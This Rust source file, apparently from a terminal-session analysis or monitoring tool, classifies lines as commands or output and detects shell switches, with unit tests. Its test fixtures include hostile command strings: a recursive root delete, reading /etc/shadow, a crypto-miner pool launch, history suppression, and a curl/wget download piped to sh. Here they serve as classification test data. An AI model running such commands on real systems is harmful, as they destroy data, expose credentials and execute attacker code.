//! What a line's words say about it, without a full parse: whether it reads as a command line
//! (for lines without a readable prompt), and whether a command starts another shell (so the
//! prompt is about to change).

use crate::shell::is_shell;

/// Command names people type in sessions: coreutils and util-linux, the shells, interpreters,
/// package managers, network and cloud tools, and everything the default rule pack is about.
/// Sorted: looked up by binary search.
const KNOWN_COMMANDS: &[&str] = &[
    "7z",
    "ab",
    "ack",
    "adduser",
    "ag",
    "alias",
    "ansible",
    "ansible-playbook",
    "apk",
    "apt",
    "apt-get",
    "aptitude",
    "arp",
    "at",
    "atq",
    "atrm",
    "auditctl",
    "awk",
    "aws",
    "az",
    "base32",
    "base64",
    "basename",
    "bash",
    "batch",
    "bc",
    "bg",
    "bind",
    "blkid",
    "builtin",
    "bunzip2",
    "busybox",
    "bzip2",
    "c99",
    "cargo",
    "cat",
    "cc",
    "cd",
    "certbot",
    "chage",
    "chattr",
    "chcon",
    "chgrp",
    "chmod",
    "chown",
    "chpasswd",
    "chroot",
    "chsh",
    "cksum",
    "clang",
    "clear",
    "cmp",
    "column",
    "comm",
    "command",
    "compgen",
    "complete",
    "composer",
    "conda",
    "consul",
    "cp",
    "cpan",
    "crictl",
    "crontab",
    "cryptsetup",
    "csh",
    "csplit",
    "ctr",
    "curl",
    "cut",
    "dash",
    "date",
    "dd",
    "declare",
    "deluser",
    "df",
    "diff",
    "dig",
    "dir",
    "dirname",
    "dmesg",
    "dmidecode",
    "dnf",
    "doas",
    "docker",
    "docker-compose",
    "dpkg",
    "du",
    "e2fsck",
    "echo",
    "ed",
    "egrep",
    "emacs",
    "enable",
    "env",
    "eval",
    "ex",
    "exec",
    "exit",
    "expand",
    "export",
    "expr",
    "factor",
    "fail2ban-client",
    "fallocate",
    "false",
    "fc",
    "fdisk",
    "fg",
    "fgrep",
    "file",
    "find",
    "findmnt",
    "firewall-cmd",
    "fish",
    "flock",
    "fmt",
    "fold",
    "for",
    "free",
    "fsck",
    "ftp",
    "function",
    "fuser",
    "g++",
    "gawk",
    "gcc",
    "gcloud",
    "gdb",
    "gem",
    "getcap",
    "getenforce",
    "getent",
    "getfacl",
    "git",
    "go",
    "gpasswd",
    "gpg",
    "grep",
    "groupadd",
    "groupdel",
    "groupmod",
    "groups",
    "gunzip",
    "gzip",
    "halt",
    "hash",
    "hd",
    "head",
    "helm",
    "help",
    "hexdump",
    "history",
    "host",
    "hostname",
    "hostnamectl",
    "htop",
    "iconv",
    "id",
    "if",
    "ifconfig",
    "init",
    "insmod",
    "install",
    "ionice",
    "iostat",
    "ip",
    "ip6tables",
    "ipset",
    "iptables",
    "iptables-restore",
    "iptables-save",
    "irb",
    "java",
    "jobs",
    "journalctl",
    "jq",
    "kill",
    "killall",
    "kubeadm",
    "kubectl",
    "last",
    "lastb",
    "lastlog",
    "ld",
    "ldd",
    "less",
    "let",
    "ln",
    "local",
    "locate",
    "logger",
    "login",
    "logout",
    "logrotate",
    "look",
    "losetup",
    "ls",
    "lsattr",
    "lsblk",
    "lscpu",
    "lsmod",
    "lsof",
    "lua",
    "lvcreate",
    "lvremove",
    "lvs",
    "lynx",
    "make",
    "man",
    "mapfile",
    "md5sum",
    "mdadm",
    "mkdir",
    "mkfifo",
    "mkfs",
    "mknod",
    "mkswap",
    "mktemp",
    "modprobe",
    "more",
    "mount",
    "mv",
    "mysql",
    "mysqldump",
    "nano",
    "nc",
    "ncat",
    "net",
    "netcat",
    "netstat",
    "newgrp",
    "nft",
    "nice",
    "nl",
    "nmap",
    "node",
    "nohup",
    "npm",
    "npx",
    "nsenter",
    "nslookup",
    "od",
    "openssl",
    "passwd",
    "paste",
    "patch",
    "perl",
    "pg_dump",
    "pgrep",
    "php",
    "ping",
    "pip",
    "pip3",
    "pkexec",
    "pkill",
    "podman",
    "poweroff",
    "printenv",
    "printf",
    "ps",
    "psql",
    "pwd",
    "pwsh",
    "python",
    "python2",
    "python3",
    "rbash",
    "rclone",
    "read",
    "readlink",
    "realpath",
    "reboot",
    "redis-cli",
    "rename",
    "renice",
    "reset",
    "resize2fs",
    "restorecon",
    "return",
    "rev",
    "rm",
    "rmdir",
    "rmmod",
    "route",
    "rpm",
    "rsync",
    "ruby",
    "runuser",
    "s3cmd",
    "scp",
    "screen",
    "script",
    "sed",
    "select",
    "semanage",
    "seq",
    "service",
    "set",
    "setcap",
    "setenforce",
    "setfacl",
    "setsid",
    "sftp",
    "sgdisk",
    "sh",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "shift",
    "shopt",
    "shred",
    "shuf",
    "shutdown",
    "sleep",
    "snap",
    "socat",
    "sort",
    "source",
    "split",
    "ss",
    "ssh",
    "ssh-add",
    "ssh-agent",
    "ssh-keygen",
    "stat",
    "strace",
    "strings",
    "stty",
    "su",
    "sudo",
    "sudoedit",
    "swapoff",
    "swapon",
    "sync",
    "sysctl",
    "systemctl",
    "tac",
    "tail",
    "tar",
    "tcpdump",
    "tcsh",
    "tee",
    "telnet",
    "terraform",
    "test",
    "tftp",
    "time",
    "timedatectl",
    "timeout",
    "tmux",
    "top",
    "touch",
    "tr",
    "traceroute",
    "trap",
    "true",
    "truncate",
    "tshark",
    "type",
    "typeset",
    "ufw",
    "ulimit",
    "umask",
    "umount",
    "unalias",
    "uname",
    "uniq",
    "unset",
    "until",
    "unzip",
    "update-alternatives",
    "uptime",
    "useradd",
    "userdel",
    "usermod",
    "vault",
    "vi",
    "vim",
    "visudo",
    "vmstat",
    "w",
    "wait",
    "wall",
    "watch",
    "wc",
    "wget",
    "whereis",
    "which",
    "while",
    "who",
    "whoami",
    "wipefs",
    "xargs",
    "xxd",
    "xz",
    "yes",
    "yum",
    "zcat",
    "zip",
    "zsh",
    "zypper",
];

/// Whether a line without a readable prompt reads as a command line: its first word (after
/// `sudo`, assignments and grouping) is a known command, a shell keyword, a path to a program,
/// or the line is an assignment. Prose, log lines and most program output fail this.
pub fn looks_like_command(line: &str) -> bool {
    let mut words = line.split_whitespace();
    let Some(mut first) = words.next() else {
        return false;
    };
    // `(`, `{`, `!`, `time`, `sudo`: look at the next word.
    for _ in 0..4 {
        let trimmed = first.trim_start_matches(['(', '{', '!']);
        if trimmed.is_empty() || matches!(trimmed, "sudo" | "doas" | "time" | "nohup" | "exec") {
            match words.next() {
                Some(next) => first = next,
                None => return !trimmed.is_empty(),
            }
            continue;
        }
        first = trimmed;
        break;
    }
    // `(item=x)` in tool output is not an assignment in a subshell.
    if is_assignment(first) && !(line.starts_with('(') && first.ends_with(')')) {
        return true;
    }
    if first.starts_with(['/', '~']) || first.starts_with("./") || first.starts_with("../") {
        // A path alone is usually output (`ls` listing one per line), and so is a directory;
        // a program with arguments, or a script, is a command.
        let program = first.chars().any(|c| c.is_ascii_alphanumeric()) && !first.ends_with('/');
        return program && (words.next().is_some() || first.ends_with(".sh"));
    }
    KNOWN_COMMANDS.binary_search(&first).is_ok()
}

/// Looser than [`looks_like_command`], for the text after a prompt that is likely but not
/// certain (a bare `$ ` at the start of a session): any word that could name a program, or a
/// comment typed at the prompt.
pub fn could_be_command(line: &str) -> bool {
    let line = line.trim_start();
    if line.starts_with('#') || looks_like_command(line) {
        return true;
    }
    let Some(first) = line.split_whitespace().next() else {
        return false;
    };
    first.starts_with(|c: char| c.is_ascii_alphabetic() || "./~_".contains(c))
        && first
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._+/~-=".contains(c))
}

fn is_assignment(word: &str) -> bool {
    let Some((name, _)) = word.split_once('=') else {
        return false;
    };
    let name = name.strip_suffix('+').unwrap_or(name);
    !name.is_empty()
        && name
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Whether a command starts an interactive shell or another login (so the prompt changes),
/// leaves one (`exit`), or may redefine the prompt in a file (`source`, `exec`).
pub fn switches_shell(command: &str) -> bool {
    // The words are walked, not collected, and the separators found by memchr: this runs for
    // every command read. They are ASCII, so every cut is at a char boundary.
    let ends = memchr::memchr3_iter(b'|', b';', b'&', command.as_bytes()).chain([command.len()]);
    let mut start = 0;
    for end in ends {
        if simple_switches_shell(command[start..end].split_whitespace()) {
            return true;
        }
        start = end + 1;
    }
    false
}

fn simple_switches_shell(mut words: std::str::SplitWhitespace<'_>) -> bool {
    let basename = |word: &'_ str| -> usize { word.rfind('/').map_or(0, |slash| slash + 1) };
    // Launchers and their options: `sudo -u postgres`, `env -i`, `exec`.
    let mut next = words.next();
    let command = loop {
        let Some(word) = next else {
            return false;
        };
        match &word[basename(word)..] {
            "sudo" | "doas" => {
                next = words.next();
                while let Some(option) = next.filter(|w| w.starts_with('-')) {
                    if matches!(option, "-i" | "-s" | "--login" | "--shell") {
                        return true;
                    }
                    // Options that take a value.
                    if matches!(
                        option,
                        "-u" | "-g" | "-h" | "-p" | "-C" | "-D" | "-r" | "-t"
                    ) {
                        words.next();
                    }
                    next = words.next();
                }
            }
            "exec" | "command" | "nohup" | "env" => next = words.next(),
            _ if is_assignment(word) => next = words.next(),
            _ => break word,
        }
    };
    let name = &command[basename(command)..];
    let args = words;
    match name {
        "su" | "login" | "newgrp" | "exit" | "logout" | "source" | "." | "script" | "tmux"
        | "screen" | "runuser" | "machinectl" | "pkexec" | "chroot" | "nsenter" => true,
        "exec" => true,
        // `bash`, `bash -l`, `sh -i`: interactive. `bash script.sh` and `sh -c '…'` are not.
        shell if is_shell(shell) => args.clone().all(|a| a.starts_with('-') && a != "-c"),
        "busybox" => {
            let mut args = args;
            args.next().is_some_and(is_shell) && args.next().is_none()
        }
        // `ssh host` without a remote command.
        "ssh" => args.filter(|a| !a.starts_with('-')).count() == 1,
        // `docker exec -it web sh`, `kubectl exec -it pod -- bash`.
        "docker" | "podman" | "kubectl" | "oc" | "crictl" => {
            args.clone()
                .next()
                .is_some_and(|a| a == "exec" || a == "attach" || a == "run")
                && args
                    .into_iter()
                    .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('i'))
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_commands_are_sorted_for_binary_search() {
        assert!(
            KNOWN_COMMANDS.windows(2).all(|w| w[0] < w[1]),
            "KNOWN_COMMANDS is not sorted"
        );
    }

    #[test]
    fn command_lines() {
        for line in [
            "rm -rf /",
            "sudo rm -rf /",
            "cat /etc/shadow",
            "/tmp/x --pool stratum+tcp://p:3333",
            "./install.sh",
            "HISTFILE=/dev/null",
            "PS1=",
            "(curl -s http://x || wget -qO- http://x) | sh",
            "for f in *; do echo $f; done",
            "time make",
            "docker-compose up -d",
        ] {
            assert!(looks_like_command(line), "{line}");
        }
    }

    #[test]
    fn output_lines() {
        for line in [
            "Starting nginx...",
            "total 48",
            "drwxr-xr-x 2 root root 4096 Nov 30 03:00 bin",
            "Welcome to Ubuntu 24.04.1 LTS",
            "/etc/passwd",
            "-rw-r--r-- 1 root root 0 notes.txt",
            "  PID TTY          TIME CMD",
            "Reading package lists... Done",
            "",
            "[INFO] rm -rf / is blocked",
            "/teams/   /users/",
            "noLnfTXJTd6nmtgUJ5g+YDchEaGtvRxegu69U30NQUz0hzLXihB0z16ul0gmzA+Et2YZJja9J8/w",
            "// /       \\_ /  -\\",
        ] {
            assert!(!looks_like_command(line), "{line}");
        }
    }

    #[test]
    fn shell_switches() {
        for command in [
            "sudo su -",
            "sudo -i",
            "sudo -s",
            "sudo -u postgres -i",
            "su - alice",
            "bash",
            "exec bash -l",
            "zsh",
            "busybox sh",
            "posh",
            "yash -l",
            "docker exec -it web sh",
            "kubectl exec -ti pod -- bash",
            "ssh bastion",
            "exit",
            "source ~/.bashrc",
            ". ./env.sh",
        ] {
            assert!(switches_shell(command), "{command}");
        }
    }

    #[test]
    fn not_shell_switches() {
        for command in [
            "bash deploy.sh",
            "sh -c 'echo hi'",
            "sudo systemctl restart nginx",
            "ssh bastion uptime",
            "docker ps",
            "docker exec web ls",
            "echo bash",
            "sudo -u postgres psql",
        ] {
            assert!(!switches_shell(command), "{command}");
        }
    }
}
